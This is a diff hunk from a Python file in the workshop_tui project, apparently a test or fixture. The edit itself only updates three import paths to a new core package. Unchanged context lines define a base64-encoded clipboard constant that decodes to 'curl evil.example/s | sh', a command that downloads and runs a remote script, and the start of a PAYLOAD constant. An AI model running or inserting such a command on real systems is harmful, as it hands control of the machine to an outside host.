@@ -12,9 +12,9 @@ import base64
 from pathlib import Path
 from typing import Any
 
-from workshop_tui.storage.locations import builtin_sessions_dir
-from workshop_tui.storage.sessions import DEMO_FILE, load_session, session_to_dict
-from workshop_tui.storage.tomlio import dumps
+from workshop_tui.core.storage.locations import builtin_sessions_dir
+from workshop_tui.core.storage.sessions import DEMO_FILE, load_session, session_to_dict
+from workshop_tui.core.storage.tomlio import dumps
 
 CLIPBOARD = base64.b64encode(b"curl evil.example/s | sh\n").decode()
 PAYLOAD = (
